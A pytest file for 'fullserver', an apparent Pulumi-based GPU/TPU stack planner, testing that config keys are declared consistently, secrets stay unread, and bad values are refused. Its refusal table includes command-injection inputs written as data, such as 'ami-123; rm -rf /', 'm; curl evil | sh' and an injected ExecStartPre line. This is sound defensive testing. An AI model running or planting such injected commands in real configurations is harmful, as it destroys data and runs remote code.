"""Stack config: one list of keys (the Workload model) shared by Pulumi.yaml, ``fullserver plan``
and the program; secrets planned without being read; every key refusing nonsense in one line."""

from __future__ import annotations

import json
import math
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

from fullserver.catalog import load_catalog
from fullserver.clouds.gcp import check_gcp_project
from fullserver.errors import FullserverError, InputError
from fullserver.plan import StackPlan, plan_paths, plan_stack
from fullserver.platform import Platform
from fullserver.platforms import rules_for
from fullserver.profiles import get_profile, load_profiles
from fullserver.stacks import (
    cloud_project,
    config_keys,
    find_stacks,
    load_stack,
    stack_name,
    workload_from_config,
)
from fullserver.workload import CONFIG_NAMESPACE, MAX_NODES, Workload
from fullserver.workload_checks import check_workload
from fullserver.yamlio import read_yaml

ROOT = Path(__file__).resolve().parents[2]
STACKS = ROOT / "stacks"
# A real ed25519 public key (the example host key of stacks/Pulumi.dedicated-h100.yaml) with a comment.
ED25519_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOdxa8FJ42wwS51NSUShy8AnhcSqHlneQjBFh7l9eov/ ada@laptop"
SECURE = {"secure": "v1:q0Ch9YRfEqKbQq6W:2Rj0oMC0W9kVzIlD8RkZ0jXzpXg="}  # a passphrase-provider ciphertext
# ACM certificate ARNs of the documented form (the id a UUID) in two regions; no real certificate.
CERT_EAST = "arn:aws:acm:us-east-1:123456789012:certificate/00000000-0000-4000-8000-000000000000"
CERT_WEST = CERT_EAST.replace("us-east-1", "us-west-2")


def stack_config(stack: str, **changes: Any) -> dict[str, Any]:
    """An example stack's config with ``fullserver:<key>`` changes (None removes the key)."""
    config: dict[str, Any] = dict(read_yaml(STACKS / f"Pulumi.{stack}.yaml")["config"])
    for key, value in changes.items():
        full = f"{CONFIG_NAMESPACE}:{key}"
        if value is None:
            config.pop(full, None)
        else:
            config[full] = value
    return config


def write_stack(directory: Path, name: str, config: dict[str, Any]) -> Path:
    path = directory / f"Pulumi.{name}.yaml"
    path.write_text(yaml.safe_dump({"config": config}, sort_keys=False), encoding="utf-8")
    return path


def plan_offline(path: Path) -> StackPlan:
    """``fullserver plan`` of one stack file: the model, the profile and catalog checks, sizing.

    ``check_workload`` runs here as ``components.program`` runs it; ``plan_workload`` (core) is to
    call it too, so that ``plan_paths`` alone does all of this.
    """
    stack = load_stack(path)
    profiles, catalog = load_profiles(), load_catalog()
    try:
        check_workload(stack.workload, get_profile(stack.workload.profile, profiles), catalog)
    except FullserverError as exc:
        raise InputError(f"{path}: {exc.where}", exc.what, exc.hint) from None
    return plan_stack(stack, profiles, catalog)


# --- one list: Pulumi.yaml declares exactly the model's keys -----------------------------------


def _declared() -> dict[str, dict[str, Any]]:
    config = yaml.safe_load((ROOT / "Pulumi.yaml").read_text(encoding="utf-8"))["config"]
    assert isinstance(config, dict)
    return config


def test_pulumi_yaml_declares_exactly_the_keys_the_model_reads() -> None:
    model = {str(f.alias) for f in Workload.model_fields.values()}
    assert set(_declared()) == model == set(config_keys())


@pytest.mark.parametrize("key", sorted(config_keys()))
def test_each_declaration_is_the_models(key: str) -> None:
    """Type, item type, secret, description and default: Pulumi.yaml says what the model says."""
    want = config_keys()[key]
    decl = _declared()[key]
    assert decl.get("type") == want.type
    assert (decl.get("items") or {}).get("type") == want.items
    assert bool(decl.get("secret")) == want.secret
    assert decl.get("description") == want.description
    assert decl.get("default") == want.default
    assert ("default" not in decl) == want.required


def test_only_profile_is_required() -> None:
    # Pulumi requires a declared key without a default in every stack; region may give way to
    # location, so the model asks for one of the two (tests/core/test_placement.py).
    assert sorted(k for k, d in _declared().items() if "default" not in d) == ["profile"]


def _pulumi_text(value: Any) -> str:
    """A default as Pulumi hands it to the program (text; JSON for arrays and objects)."""
    return value if isinstance(value, str) else json.dumps(value)


@pytest.mark.parametrize("key", sorted(k for k, c in config_keys().items() if not c.required))
def test_each_declared_default_means_not_set(key: str) -> None:
    """Pulumi hands the program a declared default as if the stack had set it: it must mean what
    leaving the key out means, written in the stack file or given as Pulumi's text."""
    default = config_keys()[key].default
    for stack in ("exp-aws-spot", "dedicated-h100", "train-tpu-v5e"):
        without = _outcome(stack_config(stack, **{key: None}))
        assert _outcome(stack_config(stack, **{key: default})) == without
        assert _outcome(stack_config(stack, **{key: _pulumi_text(default)})) == without


def _outcome(config: dict[str, Any]) -> Workload | str:
    """The workload, or the line refusing it (a stack may need the key it leaves out)."""
    try:
        return workload_from_config(config, "stack")
    except InputError as exc:
        return str(exc)


def test_the_program_and_the_plan_read_pulumi_text_alike() -> None:
    """What the program gets (text) and the stack file (YAML types) make the same workload."""
    for path in find_stacks(STACKS, []):
        config = read_yaml(path)["config"]
        as_text = {k: _pulumi_text(v) for k, v in config.items()}
        assert workload_from_config(as_text, str(path)) == load_stack(path).workload


# --- secrets: planned, never read -------------------------------------------------------------


def test_a_stack_with_an_encrypted_ssh_key_plans(tmp_path: Path) -> None:
    """The documented `pulumi config set --secret fullserver:sshPrivateKey` writes `secure:`."""
    path = write_stack(tmp_path, "dedicated-h100", stack_config("dedicated-h100", sshPrivateKey=SECURE))
    (plan,) = plan_paths([path])
    assert plan.spec.platform.value == "bare-metal"
    assert load_stack(path).workload.ssh_private_key is True
    # the ciphertext is neither kept nor shown
    dumped = plan.model_dump_json() + load_stack(path).workload.model_dump_json() + repr(load_stack(path))
    assert SECURE["secure"] not in dumped


def test_a_private_key_in_plain_text_is_refused(tmp_path: Path) -> None:
    path = write_stack(
        tmp_path, "bm", stack_config("dedicated-h100", sshPrivateKey="-----BEGIN OPENSSH PRIVATE KEY-----")
    )
    with pytest.raises(InputError) as info:
        load_stack(path)
    line = str(info.value)
    assert "fullserver:sshPrivateKey" in line and "--secret" in line and "BEGIN" not in line


def test_a_key_read_in_plain_text_cannot_be_encrypted(tmp_path: Path) -> None:
    path = write_stack(tmp_path, "enc", stack_config("exp-aws-spot", owner=SECURE))
    with pytest.raises(InputError, match=r"field 'fullserver:owner' is encrypted .*without --secret") as info:
        load_stack(path)
    assert SECURE["secure"] not in str(info.value)


# --- unknown keys and stack names -------------------------------------------------------------


def test_a_misspelt_key_is_refused_with_the_right_spelling(tmp_path: Path) -> None:
    path = write_stack(tmp_path, "typo", stack_config("exp-aws-spot", acceleratorcount=8))
    with pytest.raises(InputError) as info:
        load_stack(path)
    assert str(info.value) == (
        f"{path}: unknown key 'fullserver:acceleratorcount' (did you mean 'fullserver:acceleratorCount'?)"
    )


@pytest.mark.parametrize(
    "name",
    ["my stack", "", "a" * 101, "café", "a:b", "x@y"],
    ids=["space", "empty", "101-chars", "non-ascii", "colon", "at"],
)
def test_a_stack_file_name_pulumi_refuses_is_refused(tmp_path: Path, name: str) -> None:
    path = write_stack(tmp_path, name, stack_config("exp-aws-spot"))
    with pytest.raises(InputError, match="is not a stack name Pulumi accepts") as info:
        plan_paths(find_stacks(tmp_path, []))
    assert str(path) in str(info.value) and "\n" not in str(info.value)


def test_pulumi_stack_names_are_accepted() -> None:
    for name in ("dev", "a_b.c-1", "A" * 100, "1"):
        assert stack_name(Path(f"Pulumi.{name}.yaml")) == name


# --- every key refuses nonsense in one line naming it -------------------------------------------

# (key, base stack, changes, what the line says besides the key). Every key Pulumi.yaml declares
# has at least one case (test_every_key_has_a_refusal).
ATTACHED: dict[str, Any] = {"cluster": "prod", "controlPlaneSourceRanges": None}
"""eks-gpu-cluster on an existing cluster: its control-plane ranges are for one it creates."""

REFUSED: list[tuple[str, str, dict[str, Any], str]] = [
    ("profile", "exp-aws-spot", {"profile": ""}, "at least 1 character"),
    ("profile", "exp-aws-spot", {"profile": "yolo"}, "unknown profile 'yolo'"),
    ("platform", "exp-aws-spot", {"platform": "mainframe"}, "Input should be"),
    ("region", "exp-aws-spot", {"region": "US East"}, "is not a region name"),
    ("region", "exp-aws-spot", {"region": ""}, "is not set (set fullserver:region, or fullserver:location"),
    ("region", "exp-aws-spot", {"region": None}, "is not set (set fullserver:region, or fullserver:location"),
    ("location", "exp-aws-spot", {"region": None, "location": ["Mars"]}, "is not a region name"),
    ("datasetLocation", "exp-aws-spot", {"datasetLocation": "https://x/y"}, "is neither a region"),
    ("zone", "exp-aws-spot", {"zone": "us-west-2a"}, "is not a zone of region us-east-1"),
    ("zone", "finetune-gcp-g2", {"zone": "europe-west4-a"}, "is not a zone of region us-central1"),
    ("zone", "finetune-gcp-g2", {"zone": "banana"}, "is not a zone of region us-central1"),
    ("zone", "exp-aws-spot", {"zone": "us-east-1-a"}, "AWS zones are the region and a letter"),
    ("framework", "exp-aws-spot", {"framework": "caffe"}, "Input should be"),
    ("accelerator", "exp-aws-spot", {"accelerator": ""}, "needs an accelerator"),
    ("accelerator", "dedicated-h100", {"accelerator": "A100-40GB"}, "the dedicated host has H100-80GB"),
    ("acceleratorCount", "exp-aws-spot", {"acceleratorCount": True}, "valid integer"),
    ("acceleratorCount", "exp-aws-spot", {"acceleratorCount": 1.5}, "valid integer"),
    ("acceleratorCount", "exp-aws-spot", {"acceleratorCount": 100_000}, "less than or equal to 8960"),
    ("acceleratorCount", "batch-tpu-v5e", {"acceleratorCount": 3}, "v5litepod-4 has 4 chips"),
    (
        "acceleratorCount",
        "batch-tpu-v5e",
        {"accelerator": "v5e", "acceleratorCount": 3},
        "no TPU-v5e slice has 3 chips",
    ),
    ("acceleratorCount", "dedicated-h100", {"acceleratorCount": 4}, "the dedicated host has 8"),
    ("nodes", "train-p5-cluster", {"nodes": 100_000}, "less than or equal to 512"),
    ("nodes", "train-p5-cluster", {"nodes": 10**18}, "less than or equal to 512"),  # 19 digits: no "valid integer"
    ("nodes", "train-p5-cluster", {"nodes": -(10**40)}, "greater than or equal to 1"),
    ("nodes", "train-p5-cluster", {"nodes": True}, "valid integer"),
    ("nodes", "train-p5-cluster", {"nodes": 0}, "greater than or equal to 1"),
    ("nodes", "dedicated-h100", {"nodes": 3}, "one node per server"),
    ("owner", "exp-aws-spot", {"owner": ""}, "must name who owns"),
    ("owner", "exp-aws-spot", {"owner": "   "}, "must name who owns"),
    ("owner", "exp-aws-spot", {"owner": "ml\x1b[2Jteam"}, "U+001B, a control character"),
    ("owner", "exp-aws-spot", {"owner": "ml\x07team"}, "U+0007, a control character"),
    ("owner", "exp-aws-spot", {"owner": "ml\nteam"}, "U+000A, a control character"),
    ("owner", "exp-aws-spot", {"owner": "ml\u200dteam"}, "U+200D, a format character"),
    ("owner", "exp-aws-spot", {"owner": "ml\u202eteam"}, "U+202E, a format character (zero-width or bidi"),
    ("owner", "exp-aws-spot", {"owner": "ml\u2028team"}, "U+2028, a line separator"),
    ("owner", "exp-aws-spot", {"owner": "ml\u2029team"}, "U+2029, a paragraph separator"),
    ("owner", "exp-aws-spot", {"owner": 0o755}, "is the YAML number 493, not text"),
    ("region", "exp-aws-spot", {"region": False}, "is the YAML boolean false, not text"),
    ("zone", "exp-aws-spot", {"zone": "us-east-1z"}, "AWS zones are the region and a letter a-f"),
    ("zone", "finetune-gcp-g2", {"zone": "us-central1-q"}, "Google Cloud zones are the region, '-' and a letter a-f"),
    ("image", "finetune-gcp-g2", {"image": "ami-0123456789abcdef0"}, "is an AWS AMI id, not a Compute Engine"),
    # an accelerator of a kind the named platform does not take: what it takes, and who takes it
    ("accelerator", "gke-tpu-slice", {"accelerator": "L4"}, "'L4' is a GPU, and gke-tpu takes TPU types: v4-8, v4-16,"),
    (
        "accelerator",
        "train-tpu-v5e",
        {"accelerator": "L4"},
        "use fullserver:platform aws-gpu, gcp-gpu, bare-metal, gke",
    ),
    (
        "accelerator",
        "serve-gke-l4",
        {"accelerator": "v5litepod-8"},
        "is a TPU, and gke-gpu takes GPU accelerators: A100",
    ),
    ("accelerator", "exp-aws-spot", {"accelerator": "v5litepod-8"}, "use fullserver:platform tpu-vm, gke-tpu for"),
    ("cluster", "gke-gpu-attach", {"cluster": "ML_Prod"}, "GKE cluster name 'ML_Prod' does not match"),
    ("cluster", "gke-gpu-attach", {"cluster": "12345"}, "GKE cluster name '12345' does not match"),
    ("cluster", "gke-gpu-attach", {"cluster": "ml-pr\u00f8d"}, "does not match [a-z]([a-z0-9-]*[a-z0-9])?"),
    ("cluster", "eks-gpu-cluster", {**ATTACHED, "cluster": "-prod"}, "EKS cluster name '-prod' does not match"),
    (
        "subnets",
        "eks-gpu-cluster",
        {**ATTACHED, "subnets": ["subnet-0a1b2c3d", "subnet-0a1b2c3d"]},
        "lists 'subnet-0a1b2c3d' twice",
    ),
    (
        "serving",
        "serve-aws-realtime",
        {"serving": {"apiKeySecret": "k", "certificateArn": CERT_EAST.replace("arn:aws:", "arn:aws-cn:")}},
        "region us-east-1 is in partition aws, not aws-cn",
    ),
    ("serving", "serve-gcp-realtime", {"serving": {"domains": ["10.0.0.1"]}}, "is an IP address or ends in a numeric"),
    ("serving", "serve-gcp-realtime", {"serving": {"domains": ["llm.example.123"]}}, "numeric top-level label"),
    ("datasetGib", "exp-aws-spot", {"datasetGib": math.inf}, "valid integer"),
    ("datasetGib", "exp-aws-spot", {"datasetGib": -1}, "greater than or equal to 0"),
    ("datasetGib", "exp-aws-spot", {"datasetGib": 25_000}, "a gp3 volume holds at most 16,384 GiB"),
    ("datasetGib", "finetune-gcp-g2", {"datasetGib": 2_000_000}, "less than or equal to 1048576"),
    ("egressGbMonth", "exp-aws-spot", {"egressGbMonth": -5}, "greater than or equal to 0"),
    ("egressGbMonth", "exp-aws-spot", {"egressGbMonth": 10**12}, "less than or equal to 10000000"),
    ("hoursPerMonth", "batch-tpu-v5e", {"hoursPerMonth": 745}, "less than or equal to 744"),
    ("hoursPerMonth", "batch-tpu-v5e", {"hoursPerMonth": math.nan}, "valid integer"),
    ("budgetMonthlyUsd", "exp-aws-spot", {"budgetMonthlyUsd": "lots"}, "valid integer"),
    ("budgetMonthlyUsd", "exp-aws-spot", {"budgetMonthlyUsd": -1}, "greater than or equal to 1"),
    ("sshSourceRanges", "exp-aws-spot", {"sshSourceRanges": ["0.0.0.0/0"]}, "would open SSH"),
    ("sshSourceRanges", "exp-aws-spot", {"sshSourceRanges": ["10.0.0.0/24"] * 61}, "at most 60 items"),
    ("sshPublicKeys", "exp-aws-spot", {"sshPublicKeys": ["not a key"]}, "not an OpenSSH public key"),
    (
        "sshPublicKeys",
        "exp-aws-spot",
        {"sshPublicKeys": ['command="rm -rf /" ' + ED25519_KEY]},
        "no options",
    ),
    ("sshPublicKeys", "exp-aws-spot", {"sshPublicKeys": [ED25519_KEY + "\nssh-ed25519 AAAA"]}, "one line"),
    ("sshPublicKeys", "exp-aws-spot", {"sshPublicKeys": ["ssh-rsa " + ED25519_KEY.split()[1]]}, "does not match"),
    ("sshPublicKeys", "dedicated-h100", {"sshPublicKeys": [ED25519_KEY]}, "applies only to aws-gpu, gcp-gpu, tpu-vm"),
    ("publicIp", "exp-aws-spot", {"publicIp": "maybe"}, "valid boolean"),
    ("publicIp", "serve-gcp-realtime", {"publicIp": True}, "does not allow a public IP"),
    ("unprotect", "serve-gcp-realtime", {"unprotect": "yes"}, "valid boolean"),
    ("ttlHours", "exp-aws-spot", {"ttlHours": 720}, "above the 8 h TTL of profile 'experimentation'"),
    ("ttlHours", "serve-gcp-realtime", {"ttlHours": 3}, "is persistent"),
    ("ttlHours", "dedicated-h100", {"ttlHours": 3}, "is persistent"),
    ("queued", "exp-aws-spot", {"queued": True}, "applies only to tpu-vm"),
    ("autostopMinutes", "exp-aws-spot", {"autostopMinutes": -5}, "greater than or equal to 0"),
    ("autostopMinutes", "dedicated-h100", {"autostopMinutes": 30}, "applies only to aws-gpu, gcp-gpu, tpu-vm"),
    ("queued", "train-tpu-v5e", {"queued": "yes"}, "valid boolean"),
    ("cluster", "exp-aws-spot", {"cluster": "ml-prod"}, "applies only to gke-gpu, gke-tpu, eks-gpu"),
    ("flexStart", "finetune-gcp-g2", {"flexStart": True}, "applies only to gke-gpu, gke-tpu"),
    ("deployWorkload", "train-tpu-v5e", {"deployWorkload": True}, "applies only to gke-gpu, gke-tpu, eks-gpu"),
    ("clusterLocation", "gke-gpu-attach", {"clusterLocation": "us-east1-b"}, "neither region us-central1 nor"),
    ("clusterLocation", "gke-gpu-attach", {"clusterLocation": "us-central1b"}, "neither region us-central1 nor"),
    # a zone of the region by name that Google Cloud does not have: refused where it is read, not blamed on balance
    ("clusterLocation", "gke-gpu-attach", {"clusterLocation": "us-central1-q"}, "'us-central1-q' is not a zone of"),
    ("clusterLocation", "gke-tpu-slice", {"clusterLocation": "us-central1"}, "no fullserver:cluster is set"),
    (
        "clusterLocation",
        "eks-gpu-cluster",
        {**ATTACHED, "clusterLocation": "us-east-1"},
        "an EKS cluster lives in the stack's region",
    ),
    ("privateEndpoint", "gke-gpu-attach", {"privateEndpoint": True}, "applies to a cluster fullserver creates"),
    ("privateEndpoint", "exp-aws-spot", {"privateEndpoint": True}, "applies only to gke-gpu, gke-tpu, eks-gpu"),
    ("privateEndpoint", "eks-gpu-cluster", {"privateEndpoint": "yes"}, "valid boolean"),
    ("clusterIdentity", "eks-gpu-cluster", {"clusterIdentity": "oidc"}, "Input should be 'pod-identity' or 'irsa'"),
    (
        "clusterIdentity",
        "eks-gpu-cluster",
        {**ATTACHED, "clusterIdentity": "irsa"},
        "cluster fullserver creates",
    ),
    ("clusterIdentity", "gke-tpu-slice", {"clusterIdentity": "irsa"}, "GKE pods get Google credentials through"),
    (
        "nodeProvisioner",
        "eks-gpu-cluster",
        {"nodeProvisioner": "keda"},
        "Input should be 'cluster-autoscaler' or 'karpenter'",
    ),
    ("nodeProvisioner", "gke-tpu-slice", {"nodeProvisioner": "karpenter"}, "GKE's own autoscaler grows its pools"),
    ("subnets", "eks-gpu-cluster", {"subnets": ["subnet-0a1b2c3d"]}, "no fullserver:cluster is set"),
    ("subnets", "eks-gpu-cluster", {"cluster": "prod", "subnets": ["sg-0a1b2c3d"]}, "is not a subnet id"),
    ("subnets", "eks-gpu-cluster", {"cluster": "prod", "subnets": ["subnet-0A1B2C3D"]}, "is not a subnet id"),
    ("subnets", "gke-gpu-attach", {"subnets": ["subnet-0a1b2c3d"]}, "a GKE pool's nodes are in its cluster's"),
    (
        "controlPlaneSourceRanges",
        "gke-gpu-attach",
        {"controlPlaneSourceRanges": ["203.0.113.0/24"]},
        "the existing cluster's endpoint is its own",
    ),
    ("controlPlaneSourceRanges", "exp-aws-spot", {"controlPlaneSourceRanges": ["203.0.113.0/24"]}, "applies only to"),
    (
        "controlPlaneSourceRanges",
        "eks-gpu-cluster",
        {"controlPlaneSourceRanges": ["0.0.0.0/0"]},
        "set fullserver:controlPlaneOpenToInternet: true to do so on purpose",
    ),
    ("controlPlaneSourceRanges", "eks-gpu-cluster", {"controlPlaneSourceRanges": ["8.0.0.0/6"]}, "wider than /8"),
    (
        "controlPlaneSourceRanges",
        "eks-gpu-cluster",
        {"controlPlaneSourceRanges": [f"198.51.{i}.0/24" for i in range(41)]},
        "lists 41 ranges; a EKS control plane admits at most 40",
    ),
    (
        "controlPlaneSourceRanges",
        "gke-tpu-slice",
        {"controlPlaneSourceRanges": ["203.0.113.0/24"], "privateEndpoint": True},
        "fullserver:privateEndpoint turns it off",
    ),
    (
        "controlPlaneOpenToInternet",
        "gke-tpu-slice",
        {"controlPlaneSourceRanges": ["203.0.113.0/24"], "controlPlaneOpenToInternet": True},
        "keep one of the two",
    ),
    (
        "controlPlaneOpenToInternet",
        "eks-gpu-cluster",
        {**ATTACHED, "controlPlaneOpenToInternet": True},
        "the existing cluster's endpoint is its own",
    ),
    ("controlPlaneOpenToInternet", "eks-gpu-cluster", {"controlPlaneOpenToInternet": "yes"}, "valid boolean"),
    ("image", "dedicated-h100", {"image": "ubuntu-22.04"}, "does not apply to bare-metal"),
    ("image", "exp-aws-spot", {"image": "ami-123; rm -rf /"}, "is not an AMI id or a Systems Manager parameter"),
    ("image", "exp-aws-spot", {"image": "not-an-ami"}, "is not an AMI id or a Systems Manager parameter"),
    ("image", "finetune-gcp-a2", {"image": "projects/x/images/y"}, "is not a Compute Engine image reference"),
    ("reservation", "dedicated-h100", {"reservation": "cr-0123456789abcdef0"}, "does not apply to bare-metal"),
    ("reservation", "exp-aws-spot", {"reservation": "cr-0123456789abcdef0"}, "spot capacity"),
    ("capacityBlock", "finetune-gcp-g2", {"capacityBlock": True}, "applies only to aws-gpu"),
    (
        "dedicated",
        "exp-aws-spot",
        {"dedicated": {"monthlyUsd": 1, "host": {"vcpus": 1, "memoryGib": 1, "networkGbps": 1}}},
        "applies only to bare-metal",
    ),
    (
        "dedicated",
        "dedicated-h100",
        {"dedicated": {"monthlyUsd": math.inf, "host": {"vcpus": 1, "memoryGib": 1, "networkGbps": 1}}},
        "finite number",
    ),
    (
        "dedicated",
        "dedicated-h100",
        {"dedicated": {"monthlyUsd": 1, "host": {"vcpus": True, "memoryGib": 1, "networkGbps": 1}}},
        "valid integer",
    ),
    ("alternatives", "exp-aws-spot", {"alternatives": [{"platform": "mainframe"}]}, "Input should be"),
    ("alternatives", "exp-aws-spot", {"alternatives": [{"platform": "gcp-gpu"}] * 17}, "at most 16 items"),
    (
        "alternatives",
        "exp-aws-spot",
        {"alternatives": [{"platform": "gcp-gpu", "nodes": 100_000}]},
        "less than or equal to 512",
    ),
    (
        "sshPrivateKey",
        "dedicated-h100",
        {"sshPrivateKey": "-----BEGIN OPENSSH PRIVATE KEY-----"},
        "must be stored encrypted",
    ),
    ("sshSourceRanges", "dedicated-h100", {"sshSourceRanges": ["203.0.113.0/24"]}, "opens no firewall"),
    ("publicIp", "dedicated-h100", {"publicIp": True}, "their addresses are the provider's"),
    ("serving", "exp-aws-spot", {"serving": {"model": "Qwen/Qwen2.5-7B-Instruct"}}, "runs no serving group"),
    ("serving", "serve-gcp-realtime", {"serving": {"model": "m; curl evil | sh"}}, "should match pattern"),
    ("serving", "serve-gcp-realtime", {"serving": {"args": ["--x\nExecStartPre=/bin/evil"]}}, "should match pattern"),
    ("serving", "serve-gcp-realtime", {"serving": {"port": 22}}, "greater than or equal to 1024"),
    ("serving", "serve-gcp-realtime", {"serving": {"image": "vllm/vllm-openai latest"}}, "should match pattern"),
    ("serving", "serve-gcp-realtime", {"serving": {"modle": "x"}}, "unknown key"),
    ("serving", "serve-gcp-realtime", {"serving": {"tokenSecret": "hf_abc def"}}, "should match pattern"),
    ("serving", "batch-tpu-v5e", {"serving": {"model": "m"}}, "applies only to aws-gpu, gcp-gpu"),
    (
        "serving",
        "serve-aws-realtime",
        {"serving": {"apiKeySecret": "k", "certificateArn": "arn:aws:acm:us-east-1:123456789012:certificate/x"}},
        "is not an ACM certificate ARN",
    ),
    ("serving", "serve-aws-realtime", {"serving": {"apiKeySecret": "k", "certificateArn": CERT_WEST}}, "us-west-2"),
    ("serving", "serve-gcp-realtime", {"serving": {"certificateArn": CERT_EAST}}, "applies only to aws-gpu"),
    (
        "serving",
        "serve-aws-realtime",
        {"serving": {"apiKeySecret": "k", "domains": ["api.example.com"]}},
        "with an ACM certificate",
    ),
    ("serving", "serve-gcp-realtime", {"serving": {"domains": ["*.example.com"]}}, "is not a domain name"),
    ("serving", "serve-gcp-realtime", {"serving": {"domains": ["a.example.com", "A.example.com"]}}, "twice"),
    (
        "serving",
        "serve-gcp-realtime",
        {"serving": {"domains": [f"n{i}.example.com" for i in range(101)]}},
        "at most 100 items",
    ),
]


def test_every_key_has_a_refusal() -> None:
    assert {case[0] for case in REFUSED} == set(_declared())


@pytest.mark.parametrize(
    ("key", "stack", "changes", "fragment"), REFUSED, ids=[f"{c[0]}-{i}" for i, c in enumerate(REFUSED)]
)
def test_nonsense_is_refused_in_one_line_naming_the_key(
    tmp_path: Path, key: str, stack: str, changes: dict[str, Any], fragment: str
) -> None:
    path = write_stack(tmp_path, stack, stack_config(stack, **changes))
    started = time.perf_counter()
    with pytest.raises(FullserverError) as info:
        plan_offline(path)
    assert time.perf_counter() - started < 10  # bounded: no count runs the sizing away
    line = str(info.value)
    assert info.value.exit_code == 2
    assert str(path) in line and f"fullserver:{key}" in line and fragment in line, line
    assert "\n" not in line and "Traceback" not in line


def test_the_example_stacks_and_their_valid_neighbours_still_plan(tmp_path: Path) -> None:
    for path in find_stacks(STACKS, []):
        plan_offline(path)
    fine: dict[str, tuple[str, dict[str, Any]]] = {
        "tpu-count-matches": ("batch-tpu-v5e", {"acceleratorCount": 4}),
        "ttl-below-profile": ("exp-aws-spot", {"ttlHours": 8}),
        "nodes-as-listed": ("dedicated-h100", {"nodes": 1}),
        "alias-of-the-host": ("dedicated-h100", {"accelerator": "H100"}),
        "zone-in-region": ("exp-aws-spot", {"zone": "us-east-1a"}),
        "most-nodes": ("train-p5-cluster", {"nodes": MAX_NODES}),
        "public-keys": ("finetune-gcp-g2", {"sshPublicKeys": [ED25519_KEY, "  " + ED25519_KEY.replace(" ", "   ")]}),
        "https-aws": ("serve-aws-realtime", {"serving": {"apiKeySecret": "k", "certificateArn": CERT_EAST}}),
        "https-gcp": ("serve-gcp-realtime", {"serving": {"apiKeySecret": "k", "domains": ["API.example.com."]}}),
        "zonal-gke": ("gke-gpu-attach", {"clusterLocation": "us-central1-c"}),
        "regional-gke": ("gke-gpu-attach", {"clusterLocation": "us-central1"}),
        "private-gke": ("gke-tpu-slice", {"privateEndpoint": True}),
        "irsa-eks": ("eks-gpu-cluster", {"clusterIdentity": "irsa"}),
        "eks-subnets": (
            "eks-gpu-cluster",
            {**ATTACHED, "subnets": ["subnet-0a1b2c3d", "subnet-0123456789abcdef0"]},
        ),
    }
    for name, (stack, changes) in fine.items():
        plan_offline(write_stack(tmp_path, name, stack_config(stack, **changes)))


def test_a_dedicated_host_key_that_is_no_key_is_refused_by_the_plan(tmp_path: Path) -> None:
    """The audit refused ``hostKeys: ["not a key"]``; the plan accepted it. Both refuse it now."""
    config = stack_config("dedicated-h100")
    dedicated = dict(config[f"{CONFIG_NAMESPACE}:dedicated"])
    dedicated["hosts"] = [{**dedicated["hosts"][0], "hostKeys": ["not a key"]}]
    config[f"{CONFIG_NAMESPACE}:dedicated"] = dedicated
    with pytest.raises(InputError) as info:
        plan_offline(write_stack(tmp_path, "bm", config))
    assert "hostKeys" in info.value.line() and "not a public host key" in info.value.line()


@pytest.mark.parametrize("project", ["My Project!", "abc", "1-project", "project-", 123456, "a" * 31])
def test_a_gcp_project_that_is_no_project_id_is_refused_where_the_stack_is_read(
    tmp_path: Path, project: object
) -> None:
    config = stack_config("finetune-gcp-g2") | {"gcp:project": project}
    path = write_stack(tmp_path, "finetune-gcp-g2", config)
    with pytest.raises(InputError) as info:
        load_stack(path)
    assert info.value.line().startswith(f"{path}: field 'gcp:project' is ")
    assert "not a project ID" in info.value.line()


@pytest.mark.parametrize("project", ["my-ml-project", "abcdef", "a" * 30, "p-1234567"])
def test_a_project_id_of_every_allowed_form_is_read(tmp_path: Path, project: str) -> None:
    check_gcp_project(project, "x")
    config = stack_config("finetune-gcp-g2") | {"gcp:project": project}
    assert load_stack(write_stack(tmp_path, "finetune-gcp-g2", config)).name == "finetune-gcp-g2"


PROJECT_ENV = ("GOOGLE_PROJECT", "GOOGLE_CLOUD_PROJECT", "GCLOUD_PROJECT", "CLOUDSDK_CORE_PROJECT")


@pytest.mark.parametrize("stack", ["finetune-gcp-g2", "train-tpu-v5e", "gke-gpu-attach", "gke-tpu-slice"])
def test_a_google_cloud_stack_naming_no_project_is_refused_at_plan_time(stack: str, tmp_path: Path) -> None:
    """It planned against the graph's stand-in "mock-project" while quota (and pulumi up) refused it."""
    config = {k: v for k, v in stack_config(stack).items() if k != "gcp:project"}
    path = write_stack(tmp_path, stack, config)
    with pytest.raises(InputError) as info:
        plan_stack(load_stack(path), load_profiles(), load_catalog(), environ={})
    platform = config[f"{CONFIG_NAMESPACE}:platform"]
    assert info.value.line() == (
        f"{path}: gcp:project: not set, and {platform} creates its resources in a Google Cloud project "
        "(pulumi config set gcp:project <project-id>, or export GOOGLE_PROJECT)"
    )


@pytest.mark.parametrize("variable", PROJECT_ENV)
def test_a_project_pulumi_gcp_reads_from_the_environment_is_one(variable: str, tmp_path: Path) -> None:
    """pulumi-gcp takes the project from these variables when gcp:project is unset, so the plan does."""
    config = {k: v for k, v in stack_config("gke-gpu-attach").items() if k != "gcp:project"}
    path = write_stack(tmp_path, "gke-gpu-attach", config)
    plan = plan_stack(load_stack(path), load_profiles(), load_catalog(), environ={variable: "env-project"})
    assert plan.spec.platform.value == "gke-gpu"
    found = rules_for(plan.spec.platform).project
    assert found is not None and found.of(config, {variable: "env-project"}) == ("env-project", variable)
    assert found.of({"gcp:project": "my-ml-project"}, {variable: "env-project"}) == ("my-ml-project", "gcp:project")


def test_the_environment_is_read_in_the_providers_order() -> None:
    found = rules_for(Platform.GCP_GPU).project
    assert found is not None and found.env == PROJECT_ENV
    both = {"CLOUDSDK_CORE_PROJECT": "last", "GOOGLE_CLOUD_PROJECT": "second", "GOOGLE_PROJECT": ""}
    assert found.of({}, both) == ("second", "GOOGLE_CLOUD_PROJECT")  # an empty variable is unset


def test_a_stack_on_a_cloud_without_projects_needs_none(tmp_path: Path) -> None:
    path = write_stack(tmp_path, "exp-aws-spot", stack_config("exp-aws-spot"))
    assert plan_stack(load_stack(path), load_profiles(), load_catalog(), environ={}).stack == "exp-aws-spot"
    assert cloud_project(Platform.AWS_GPU, {}, {}) is None
